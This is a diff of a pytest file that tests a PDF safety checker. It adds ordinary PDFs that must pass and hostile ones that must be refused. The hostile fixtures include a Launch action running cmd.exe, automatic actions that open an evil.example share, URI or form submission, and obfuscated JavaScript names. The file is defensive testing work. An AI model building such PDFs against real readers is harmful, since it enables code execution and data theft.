@@ -76,6 +76,18 @@ def with_loop(writer: PdfWriter) -> None:
     writer._root_object[NameObject("/Me")] = writer._root_object.indirect_reference
 
 
+def with_circle(writer: PdfWriter) -> None:
+    action = object_of({"/S": "/GoTo"})
+    action[NameObject("/Next")] = writer._add_object(action)
+    writer._root_object[NameObject("/OpenAction")] = action.raw_get("/Next")
+
+
+def with_kind_elsewhere(writer: PdfWriter) -> None:
+    action = object_of({"/F": "cmd.exe"})
+    action[NameObject("/S")] = writer._add_object(NameObject("/Launch"))
+    writer._root_object[NameObject("/Outlines")] = object_of({"/First": {"/A": action}})
+
+
 def without_printing(algorithm: str = "AES-256") -> bytes:
     may = UserAccessPermissions.all() & ~UserAccessPermissions.PRINT
     return pdf(user_password="", owner_password="owner", permissions_flag=may, algorithm=algorithm)
@@ -91,6 +103,12 @@ ORDINARY = {
     "bytes before": lambda: b"\xef\xbb\xbf\r\n" + pdf(),
     "no scripts left": in_catalogue(Names={"/JavaScript": {"/Names": []}, "/EmbeddedFiles": {"/Names": []}}),
     "opens at a page": in_catalogue(OpenAction=[0, "/Fit"]),
+    "goes to a page on opening": in_catalogue(OpenAction={"/S": "/GoTo", "/D": [0, "/Fit"]}),
+    "goes on": in_catalogue(OpenAction={"/S": "/Named", "/N": "/NextPage", "/Next": {"/S": "/GoTo"}}),
+    "site, mail or file on a click": in_annotation(
+        Subtype="/Link", A={"/S": "/URI", "/URI": "mailto:a@example.org", "/Next": [{"/S": "/GoToR"}]}
+    ),
+    "actions in a circle": lambda: pdf(with_circle),
 }
 
 
@@ -122,6 +140,7 @@ REFUSED = {
     "film": (in_annotation(Subtype="/RichMedia"), Reason.MEDIA),
     "pinned file": (in_annotation(Subtype="/FileAttachment"), Reason.ATTACHMENT),
     "attached file": (lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), Reason.ATTACHMENT),
+    "program whose kind stands elsewhere": (lambda: pdf(with_kind_elsewhere), Reason.LAUNCH),
     "cut off": (lambda: pdf()[:200], Reason.BROKEN),
     "nothing but a start": (lambda: b"%PDF-1.7\n", Reason.BROKEN),
 }
@@ -132,6 +151,42 @@ def test_pdf_is_refused_with_its_own_reason(case):
     make, reason = REFUSED[case]
 
     assert verdict(make()).reason == reason
+
+
+LEAVES = {
+    "share": {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\a.pdf", "/D": [0, "/Fit"]},
+    "site": {"/S": "/URI", "/URI": "https://evil.example/"},
+    "form": {"/S": "/SubmitForm", "/F": "https://evil.example/"},
+    "article": {"/S": "/Thread", "/F": "\\\\evil.example\\share\\a.pdf"},
+    "unknown": {"/S": "/Whatever"},
+}
+STARTS = {
+    "opening": lambda action: in_catalogue(OpenAction=action),
+    "opening, then": lambda action: in_catalogue(OpenAction={"/S": "/GoTo", "/Next": action}),
+    "opening, then a list": lambda action: in_catalogue(OpenAction={"/S": "/GoTo", "/Next": [{}, action]}),
+    "printing": lambda action: in_catalogue(AA={"/WP": action}),
+    "page": lambda action: (
+        lambda: pdf(lambda writer: writer.pages[0].update(object_of({"/AA": {"/O": action}})))
+    ),
+    "annotation": lambda action: in_annotation(Subtype="/Widget", AA={"/PO": action}),
+    "on a click too": lambda action: lambda: pdf(lambda writer: with_same_twice(writer, action)),
+}
+
+
+def with_same_twice(writer: PdfWriter, action: dict) -> None:
+    shared = writer._add_object(object_of(action))
+    writer._root_object.update(object_of({"/Outlines": {"/First": {"/A": shared}}, "/OpenAction": shared}))
+
+
+@pytest.mark.parametrize("start", STARTS)
+@pytest.mark.parametrize("leaves", LEAVES)
+def test_pdf_that_leaves_itself_without_a_click_is_refused(leaves, start):
+    assert verdict(STARTS[start](LEAVES[leaves])()).reason == Reason.STARTS
+
+
+@pytest.mark.parametrize("start", STARTS)
+def test_pdf_that_fetches_data_without_a_click_is_refused(start):
+    assert verdict(STARTS[start]({"/S": "/ImportData", "/F": "a.fdf"})()).reason == Reason.LAUNCH
 
 
 @pytest.mark.parametrize("name", [b"/J#61vaScript", b"/#4aavaScript"])
